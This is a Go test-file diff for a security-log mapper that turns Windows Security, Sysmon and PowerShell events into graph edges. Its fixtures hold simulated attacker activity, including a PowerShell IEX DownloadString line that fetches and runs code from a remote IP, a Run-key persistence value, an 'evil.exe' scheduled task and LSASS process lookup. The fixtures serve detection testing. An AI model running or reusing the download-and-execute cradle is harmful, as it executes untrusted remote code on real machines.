@@ -278,6 +278,38 @@ func TestSecurity(t *testing.T) {
 				"Direction", "%%14593", "SourceAddress", "10.1.4.42", "SourcePort", "50412", "DestAddress", "203.0.113.80", "DestPort", "443", "Protocol", "6"),
 			want:  []string{`connected process:ws-042.corp.example:4312 -> ip:203.0.113.80:443`},
 			attrs: map[string]string{"direction": "outbound", "protocol": "tcp"}},
+		{name: "4733 removed from local group", dialect: schema.DialectSecurity,
+			ev: security(4733, with("MemberName", "-", "MemberSid", "S-1-5-21-1-1200",
+				"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544")...),
+			want: []string{`removed_from_group sid:S-1-5-21-1-1200 -> group:builtin\administrators`}},
+		{name: "4726 account deleted", dialect: schema.DialectSecurity,
+			ev:   security(4726, with("TargetUserName", "svc_backup", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-1200")...),
+			want: []string{`deleted_account user:corp\alice -> user:corp\svc_backup`}},
+		{name: "4702 task updated", dialect: schema.DialectSecurity,
+			ev:    security(4702, with("TaskName", `\Upd`, "TaskContentNew", "<Task><Exec><Command>evil.exe</Command></Exec></Task>")...),
+			want:  []string{`created_task user:corp\alice -> task:ws-042.corp.example\upd`},
+			attrs: map[string]string{"action": "updated", "command": "evil.exe"}},
+		{name: "4769 service ticket, user@REALM, RC4", dialect: schema.DialectSecurity,
+			ev: security(4769, "TargetUserName", "alice@CORP.EXAMPLE", "TargetDomainName", "CORP.EXAMPLE", "ServiceName", "MSSQLSvc",
+				"TicketEncryptionType", "0x17", "IpAddress", "::ffff:10.1.4.42", "Status", "0x0"),
+			want:  []string{`authenticated user:corp.example\alice -> ` + hostID},
+			ents:  []string{"ip:10.1.4.42"},
+			attrs: map[string]string{"ticket_encryption": "0x17", "protocol": "kerberos", "service": "MSSQLSvc"}},
+		{name: "4771 pre-auth failed, realm from krbtgt", dialect: schema.DialectSecurity,
+			ev: security(4771, "TargetUserName", "Administrator", "TargetSid", "S-1-5-21-1-500", "ServiceName", "krbtgt/CORP.EXAMPLE",
+				"Status", "0x18", "IpAddress", "10.1.4.42"),
+			want: []string{`authenticated user:corp.example\administrator -> ` + hostID}, attrs: map[string]string{"status": "0x18"}},
+		{name: "4776 NTLM", dialect: schema.DialectSecurity,
+			ev:    security(4776, "PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName", "Administrator", "Workstation", "WS-017", "Status", "0xc000006a"),
+			want:  []string{`authenticated user:administrator -> ` + hostID},
+			attrs: map[string]string{"protocol": "ntlm", "workstation": "WS-017"}},
+		{name: "4657 registry value", dialect: schema.DialectSecurity,
+			ev: security(4657, with("ObjectName", `\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "ObjectValueName", "Upd",
+				"OperationType", "%%1904", "NewValue", `C:\x.exe`, "ProcessId", "0x10d8", "ProcessName", psImage)...),
+			want: []string{`set_registry process:ws-042.corp.example:4312 -> reg:HKLM\software\microsoft\windows\currentversion\run\upd`}},
+		{name: "1102 log cleared", dialect: schema.DialectSecurity,
+			ev:   win("Security", "Microsoft-Windows-Eventlog", 1102, subj...),
+			want: []string{`cleared_log user:corp\alice -> ` + hostID}},
 		{name: "lower-case channel from a Sentinel export", dialect: schema.DialectSecurity,
 			ev:   win("security", "Microsoft-Windows-Security-Auditing", 4624, "TargetUserName", "bob", "TargetDomainName", "CORP", "LogonType", "2"),
 			want: []string{`logged_on user:corp\bob -> ` + hostID}},
@@ -295,6 +327,14 @@ func TestSystemAndPowerShell(t *testing.T) {
 				"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')", "ScriptBlockId", "{0B5C5E0E-1111-2222-3333-444455556666}",
 				"Path", "", "Execution_ProcessID", "4312"),
 			want: []string{`executed_script process:ws-042.corp.example:4312 -> script:ws-042.corp.example\0b5c5e0e-1111-2222-3333-444455556666`}},
+		{name: "800 pipeline (Windows PowerShell)", dialect: schema.DialectPowerShell,
+			ev: mdr.NewEvent(mdr.Origin{Source: "t"}, mdr.Field{Key: "EventID", Value: mdr.Int(800)},
+				mdr.Field{Key: "Channel", Value: mdr.String("Windows PowerShell")}, mdr.Field{Key: "Computer", Value: mdr.String("WS-042.corp.example")},
+				mdr.Field{Key: "Data", Value: mdr.List([]mdr.Value{mdr.String("Get-Process lsass"),
+					mdr.String("\tDetailSequence=1\r\n\tHostApplication=powershell.exe -nop\r\n\tUserId=CORP\\alice\r\n")})}),
+			want:  []string{"executed_script " + hostID + ` -> script:ws-042.corp.example\h` + fmt.Sprintf("%x", mdr.ContentHash([]byte("Get-Process lsass"), 0))},
+			ents:  []string{`user:corp\alice`},
+			attrs: map[string]string{"host_application": "powershell.exe -nop", "text": "Get-Process lsass"}},
 		{name: "4103 module logging", dialect: schema.DialectPowerShell,
 			ev: win("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4103,
 				"ContextInfo", "        Severity = Informational\r\n        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc SQBFAFgA\r\n        User = CORP\\alice\r\n",
@@ -483,6 +523,14 @@ func TestProcessIdentity(t *testing.T) {
 	got = mapIt(security(5156, "ProcessID", "4312", "DestAddress", "203.0.113.80", "DestPort", "443"))
 	if !slices.Contains(got, "connected "+psID+" -> ip:203.0.113.80:443") {
 		t.Errorf("5156 pid not resolved: %q", got)
+	}
+	// A process Sysmon names by ProcessGuid and pid without its creation (a
+	// network connection) is found again by pid alone.
+	mapIt(sysmon(3, "ProcessGuid", "{A1B2C3D4-0001-0000-0000-0000000003E7}", "ProcessId", "999", "Image", `C:\svc.exe`,
+		"DestinationIp", "10.0.0.1", "DestinationPort", "53"))
+	got = mapIt(win(securityCh, "", 4688, "TimeCreated", "2026-03-02T09:20:00Z", "NewProcessId", "0x2000", "NewProcessName", `C:\c.exe`, "ProcessId", "0x3e7"))
+	if !slices.Contains(got, "spawned process:a1b2c3d4-0001-0000-0000-0000000003e7 -> process:ws-042.corp.example:8192@2026-03-02T09:20:00.000Z") {
+		t.Errorf("4688 creator not resolved through a Sysmon reference: %q", got)
 	}
 	// Without Sysmon: a 4688 chain keeps host+pid+time ids.
 	m2 := schema.Mapper{Processes: schema.NewProcessTable(100)}
